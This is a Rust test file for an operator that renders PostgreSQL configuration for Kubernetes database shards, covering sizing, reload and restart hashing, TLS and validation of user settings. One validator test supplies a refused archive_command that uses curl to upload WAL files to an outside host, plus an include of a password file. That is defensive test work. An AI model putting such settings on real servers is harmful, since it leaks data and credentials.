use super::*;

const NAME: &str = "prod/postgres/default/0-inf";

fn map(entries: &[(&str, &str)]) -> BTreeMap<String, String> {
    entries
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

fn line<'a>(text: &'a str, name: &str) -> Vec<&'a str> {
    let prefix = format!("{name} = ");
    text.lines().filter(|l| l.starts_with(&prefix)).collect()
}

/// The whole file of a shard whose pools say nothing about their size.
const DEFAULT_FILE: &str = "\
# PostgreSQL configuration rendered by the multigres operator; do not edit.
# Later lines win. port, listen_addresses, unix_socket_directories, data_directory,
# hba_file and ident_file are set by pgctld on its command line.

# Operator defaults, sized from the pools' memory, CPU and disk.
authentication_timeout = '1min'
auto_explain.log_min_duration = '10s'
checkpoint_completion_target = '0.9'
checkpoint_flush_after = '256kB'
cluster_name = 'prod/postgres/default/0-inf'
cron.database_name = 'postgres'
default_statistics_target = '100'
default_text_search_config = 'pg_catalog.english'
effective_cache_size = '192MB'
effective_io_concurrency = '0'
hot_standby_feedback = 'on'
jit_provider = 'llvmjit'
lc_messages = 'en_US.UTF-8'
lc_monetary = 'en_US.UTF-8'
lc_numeric = 'en_US.UTF-8'
lc_time = 'en_US.UTF-8'
log_line_prefix = '%h %m [%p] %q%u@%d '
log_statement = 'none'
log_timezone = 'UTC'
maintenance_work_mem = '16MB'
max_connections = '60'
max_parallel_maintenance_workers = '1'
max_parallel_workers = '2'
max_parallel_workers_per_gather = '1'
max_replication_slots = '25'
max_slot_wal_keep_size = '1024MB'
max_wal_senders = '25'
max_wal_size = '1024MB'
max_worker_processes = '6'
min_wal_size = '80MB'
password_encryption = 'scram-sha-256'
random_page_cost = '1.1'
row_security = 'on'
shared_buffers = '64MB'
ssl = 'off'
ssl_ciphers = 'HIGH:MEDIUM:+3DES:!aNULL'
ssl_ecdh_curve = 'prime256v1'
ssl_min_protocol_version = 'TLSv1.2'
ssl_passphrase_command_supports_reload = 'off'
ssl_prefer_server_ciphers = 'on'
timezone = 'UTC'
wal_buffers = '1920kB'
wal_keep_size = '1000MB'
wal_level = 'logical'
wal_log_hints = 'on'
work_mem = '1092kB'

# Fingerprint of the settings a reload applies: tells whether PostgreSQL read this file.
multigres.config_reload_marker = '";

/// [`render`] of servers named [`NAME`] with no referenced ConfigMap and nothing held.
fn render_plain(
    resources: Resources,
    tls: bool,
    config: &BTreeMap<String, String>,
) -> Result<Rendered, RenderError> {
    render(NAME, resources, tls, None, config, &StandbySettings::new())
}

#[test]
fn without_sizes_the_file_is_the_baseline_and_the_marker() {
    let r = render_plain(Resources::default(), false, &BTreeMap::new()).unwrap();
    assert_eq!(
        r.text,
        format!("{DEFAULT_FILE}{}'\n", r.split.reload_hash),
        "{}",
        r.text
    );
    assert_eq!(r.split.reload_hash.len(), 16);
    assert!(r.split.reload_hash.chars().all(|c| c.is_ascii_hexdigit()));
    // Every setting of the file is in the split, once.
    assert_eq!(r.split.restart.len() + r.split.reload.len(), 46);
}

#[test]
fn memory_sizes_buffers_caches_and_work_memory() {
    let small = Resources {
        memory_bytes: Some(512 << 20),
        cpu_millis: Some(100),
        disk_bytes: None,
        memory_limit_bytes: None,
    };
    let text = render_plain(small, false, &BTreeMap::new()).unwrap().text;
    for (name, value) in [
        ("shared_buffers", "'128MB'"),
        ("effective_cache_size", "'384MB'"),
        ("maintenance_work_mem", "'32MB'"),
        // 3% of 131072kB.
        ("wal_buffers", "'3932kB'"),
        // (524288kB - 131072kB) / (60 connections * 3).
        ("work_mem", "'2184kB'"),
        ("max_worker_processes", "'6'"),
    ] {
        assert_eq!(line(&text, name), [format!("{name} = {value}")]);
    }

    let big = Resources {
        memory_bytes: Some(64 << 30),
        cpu_millis: Some(8000),
        disk_bytes: None,
        memory_limit_bytes: None,
    };
    let text = render_plain(big, false, &BTreeMap::new()).unwrap().text;
    for (name, value) in [
        ("shared_buffers", "'16384MB'"),
        ("effective_cache_size", "'49152MB'"),
        // min(mem/16, 2GB).
        ("maintenance_work_mem", "'2048MB'"),
        // 3% of shared_buffers is above the 16MB cap.
        ("wal_buffers", "'16MB'"),
        // (67108864kB - 16777216kB) / 180 / 4 workers per gather.
        ("work_mem", "'69905kB'"),
        ("max_worker_processes", "'8'"),
        ("max_parallel_workers", "'8'"),
        ("max_parallel_workers_per_gather", "'4'"),
        ("max_parallel_maintenance_workers", "'4'"),
    ] {
        assert_eq!(line(&text, name), [format!("{name} = {value}")]);
    }
}

#[test]
fn disk_sizes_the_wal_within_bounds() {
    let wal = |disk: u64| {
        let r = Resources {
            disk_bytes: Some(disk),
            ..Resources::default()
        };
        let text = render_plain(r, false, &BTreeMap::new()).unwrap().text;
        [
            "max_wal_size",
            "min_wal_size",
            "wal_keep_size",
            "max_slot_wal_keep_size",
        ]
        .map(|n| line(&text, n)[0].rsplit(' ').next().unwrap().to_owned())
    };
    assert_eq!(wal(1 << 30), ["'256MB'", "'64MB'", "'128MB'", "'256MB'"]);
    assert_eq!(
        wal(100 << 30),
        ["'4096MB'", "'1024MB'", "'1000MB'", "'4096MB'"]
    );
    assert_eq!(wal(100 << 20), ["'64MB'", "'32MB'", "'32MB'", "'64MB'"]);
}

#[test]
fn the_reference_then_the_map_follow_the_defaults_and_win() {
    let reference = PostgresConfigRef {
        name: "tuning".into(),
        key: "extra.conf".into(),
    };
    let content = "shared_buffers = 256MB\nstatement_timeout = '30s'  # app default";
    let config = map(&[("shared_buffers", "512MB"), ("log_line_prefix", "it's %m ")]);
    let r = render(
        NAME,
        Resources::default(),
        false,
        Some((&reference, content)),
        &config,
        &StandbySettings::new(),
    )
    .unwrap();
    let tail = r.text.split_once("work_mem = '1092kB'\n").unwrap().1;
    assert_eq!(
        tail,
        format!(
            "
# postgresConfigRef: ConfigMap tuning, key extra.conf.
shared_buffers = 256MB
statement_timeout = '30s'  # app default

# postgresConfig.
log_line_prefix = 'it''s %m '
shared_buffers = '512MB'

# Fingerprint of the settings a reload applies: tells whether PostgreSQL read this file.
multigres.config_reload_marker = '{}'
",
            r.split.reload_hash
        )
    );
    assert_eq!(r.split.restart["shared_buffers"], "512MB");
    assert_eq!(r.split.reload["statement_timeout"], "30s");
    assert_eq!(r.split.reload["log_line_prefix"], "it's %m ");
}

#[test]
fn settings_split_by_when_postgres_applies_them() {
    let s = split(&map(&[
        ("work_mem", "8MB"),
        ("ssl", "on"),
        ("shared_buffers", "1GB"),
        ("cluster_name", "x"),
        ("pg_stat_statements.max", "100"),
        ("include_if_exists", "other.conf"),
    ]));
    assert_eq!(
        s.reload.keys().collect::<Vec<_>>(),
        ["ssl", "work_mem"],
        "sighup and user settings reload"
    );
    assert_eq!(
        s.restart.keys().collect::<Vec<_>>(),
        [
            "cluster_name",
            "include_if_exists",
            "pg_stat_statements.max",
            "shared_buffers"
        ],
        "postmaster, extension and unknown settings restart"
    );
}

#[test]
fn a_reload_class_change_moves_only_the_reload_hash() {
    let at = |config: &[(&str, &str)]| {
        render_plain(Resources::default(), false, &map(config))
            .unwrap()
            .split
    };
    let base = at(&[("work_mem", "8MB")]);
    let reload = at(&[("work_mem", "16MB")]);
    assert_eq!(base.restart_hash, reload.restart_hash);
    assert_ne!(base.reload_hash, reload.reload_hash);
    let restart = at(&[("work_mem", "8MB"), ("shared_buffers", "1GB")]);
    assert_ne!(base.restart_hash, restart.restart_hash);
    assert_eq!(base.reload_hash, restart.reload_hash);
    // Removing a setting counts too: PostgreSQL falls back to its default on reload.
    let removed = at(&[]);
    assert_ne!(base.reload_hash, removed.reload_hash);
    let removed_timeout = at(&[("work_mem", "8MB"), ("statement_timeout", "1s")]);
    assert_ne!(base.reload_hash, removed_timeout.reload_hash);
    assert_eq!(base.restart_hash, removed_timeout.restart_hash);
}

#[test]
fn refused_maps_and_malformed_references_say_what_and_where() {
    let e = render_plain(
        Resources::default(),
        false,
        &map(&[("shared_bufers", "1GB"), ("port", "1")]),
    )
    .unwrap_err();
    assert_eq!(
        e.to_string(),
        "invalid postgresConfig: postgresConfig.port: cannot be set: pgctld sets it on the \
         postgres command line or in its template; postgresConfig.shared_bufers: unknown \
         PostgreSQL 17 parameter; did you mean `shared_buffers`?"
    );
    let reference = PostgresConfigRef {
        name: "tuning".into(),
        key: "pg.conf".into(),
    };
    let e = render(
        NAME,
        Resources::default(),
        false,
        Some((&reference, "work_mem = 1MB\nwork_mem =\n")),
        &BTreeMap::new(),
        &StandbySettings::new(),
    )
    .unwrap_err();
    assert_eq!(
        e.to_string(),
        "postgresConfigRef ConfigMap \"tuning\" key \"pg.conf\" is not valid postgresql.conf: \
         line 2: work_mem has no value"
    );
}

#[test]
fn referenced_content_is_checked_by_the_same_rules_naming_configmap_key_and_parameter() {
    let reference = PostgresConfigRef {
        name: "tuning".into(),
        key: "pg.conf".into(),
    };
    let content = "work_mem = 8MB\n\
                   include '/etc/postgres-password/password'\n\
                   wal_level = minimal\n\
                   archive_command = 'curl -T %p http://x'\n";
    let e = render(
        NAME,
        Resources::default(),
        false,
        Some((&reference, content)),
        &BTreeMap::new(),
        &StandbySettings::new(),
    )
    .unwrap_err();
    assert_eq!(
        e.to_string(),
        "postgresConfigRef ConfigMap \"tuning\" key \"pg.conf\" is refused and not rendered \
         (the pods keep their last postgresql.conf): archive_command: cannot be set: runs a \
         shell command as the postgres user, which can read the superuser password, S3 keys \
         and backup cipher keys; Multigres sets archive_command and restore_command itself \
         (pgBackRest); include: cannot be set: reads another file of the pod into the \
         configuration; write the settings themselves; wal_level: cannot be set: Multigres \
         needs the value the operator sets (logical WAL with hint bits, hot standbys, full \
         page writes)"
    );
    for directive in ["include_if_exists 'x.conf'", "include_dir = '/etc'"] {
        let e = render(
            NAME,
            Resources::default(),
            false,
            Some((&reference, directive)),
            &BTreeMap::new(),
            &StandbySettings::new(),
        )
        .unwrap_err();
        assert!(
            matches!(&e, RenderError::ReferenceRefused { problems, .. } if problems.len() == 1),
            "{e}"
        );
    }
}

#[test]
fn a_shard_is_sized_for_its_largest_pod_and_smallest_volume() {
    let spec: ShardSpec = serde_yaml::from_str(
        r#"
databaseName: postgres
tableGroupName: default
shardName: 0-inf
images: {multiorch: m, multipooler: m, postgres: p}
globalTopoServer: {address: "t:2379", rootPath: /r, implementation: etcd}
multiorch: {}
postgresPasswordSecretRef: {name: s, key: k}
postgresConfig: {work_mem: 8MB}
postgresConfigRef: {name: tuning, key: pg.conf}
pools:
  main:
    cells: [a]
    storage: {size: 5Gi}
    postgres:
      resources:
        requests: {cpu: "2", memory: 256Mi}
        limits: {memory: 1Gi}
  reports:
    cells: [a]
    postgres:
      resources:
        requests: {cpu: 4500m, memory: 2Gi}
"#,
    )
    .unwrap();
    assert_eq!(
        Resources::of_shard(&spec),
        Resources {
            memory_bytes: Some(2 << 30),
            cpu_millis: Some(4500),
            // `reports` has no size: the 1Gi default.
            disk_bytes: Some(1 << 30),
            // `reports` sets no limit.
            memory_limit_bytes: Some(1 << 30),
        }
    );
    let r = render_shard(
        "prod",
        &spec,
        Some("statement_timeout = 5s\n"),
        &StandbySettings::new(),
    )
    .unwrap();
    assert_eq!(
        line(&r.text, "cluster_name"),
        ["cluster_name = 'prod/postgres/default/0-inf'"]
    );
    assert_eq!(
        line(&r.text, "statement_timeout"),
        ["statement_timeout = 5s"]
    );
    assert_eq!(
        line(&r.text, "work_mem"),
        ["work_mem = '4369kB'", "work_mem = '8MB'"].map(String::from),
        "the map follows the sized default: 2Gi and 4 cores give (2097152kB - 524288kB) / 180 / 2"
    );
    assert!(
        render_shard("prod", &spec, None, &StandbySettings::new())
            .unwrap()
            .text
            .lines()
            .all(|l| !l.contains("postgresConfigRef")),
        "no referenced content, no section"
    );
}

#[test]
fn quantities_read_as_kubernetes_writes_them() {
    assert_eq!(quantity("512Mi"), Some(536_870_912.0));
    assert_eq!(quantity("1G"), Some(1e9));
    assert_eq!(quantity("250m"), Some(0.25));
    assert_eq!(quantity("2"), Some(2.0));
    assert_eq!(quantity("1e3"), Some(1000.0));
    assert_eq!(quantity("lots"), None);
}

#[test]
fn a_server_certificate_turns_tls_on_and_the_baseline_off_is_replaced() {
    let plain = render_plain(Resources::default(), false, &BTreeMap::new()).unwrap();
    assert_eq!(line(&plain.text, "ssl"), ["ssl = 'off'"]);
    assert!(line(&plain.text, "ssl_cert_file").is_empty());
    let tls = render_plain(Resources::default(), true, &BTreeMap::new()).unwrap();
    assert_eq!(line(&tls.text, "ssl"), ["ssl = 'on'"]);
    assert_eq!(
        line(&tls.text, "ssl_cert_file"),
        ["ssl_cert_file = '/certs/pgbackrest/pgbackrest.crt'"]
    );
    assert_eq!(
        line(&tls.text, "ssl_key_file"),
        ["ssl_key_file = '/certs/pgbackrest/pgbackrest.key'"]
    );
    // ssl is a reload-class setting: turning it on restarts no pod.
    assert_eq!(plain.split.restart_hash, tls.split.restart_hash);
    assert_ne!(plain.split.reload_hash, tls.split.reload_hash);
}

#[test]
fn referenced_shared_memory_must_fit_the_smallest_memory_limit() {
    let r = PostgresConfigRef {
        name: "tuning".into(),
        key: "pg.conf".into(),
    };
    let resources = Resources {
        memory_bytes: Some(1 << 30),
        memory_limit_bytes: Some(1 << 30),
        ..Resources::default()
    };
    let at = |content: &str| {
        render(
            NAME,
            resources,
            false,
            Some((&r, content)),
            &BTreeMap::new(),
            &StandbySettings::new(),
        )
    };
    let e = at("shared_buffers = 1GB\nwal_buffers = 16MB\n").unwrap_err();
    assert_eq!(
        e.to_string(),
        "postgresConfigRef ConfigMap \"tuning\" key \"pg.conf\" is refused and not rendered (the \
         pods keep their last postgresql.conf): shared_buffers: shared_buffers plus wal_buffers \
         need 1040 MiB of shared memory, more than the smallest postgres memory limit of the \
         shard's pools (1024 MiB): PostgreSQL would fail to start or be OOM-killed; lower them \
         or raise the limit"
    );
    assert!(at("shared_buffers = 512MB\n").is_ok());
    // A reference that sizes no shared memory leaves the operator's own sizing alone.
    assert!(at("work_mem = 8MB\n").is_ok());
}

#[test]
fn a_setting_below_the_floor_is_held_last_and_sizes_the_pools() {
    let floor = super::standby::parse_standby("max_connections=100").unwrap();
    let config = map(&[("max_connections", "50")]);
    let r = render(NAME, Resources::default(), false, None, &config, &floor).unwrap();
    assert_eq!(
        r.held.iter().map(ToString::to_string).collect::<Vec<_>>(),
        ["max_connections 100 (asked 50)"]
    );
    let held = r.text.find("# Held at the values").expect("a held section");
    assert!(
        r.text[held..].contains("max_connections = 100\n"),
        "{}",
        r.text
    );
    assert_eq!(r.split.restart["max_connections"], "100");
    let asked = render_plain(
        Resources::default(),
        false,
        &map(&[("max_connections", "100")]),
    );
    assert_eq!(r.pool, asked.unwrap().pool);
}
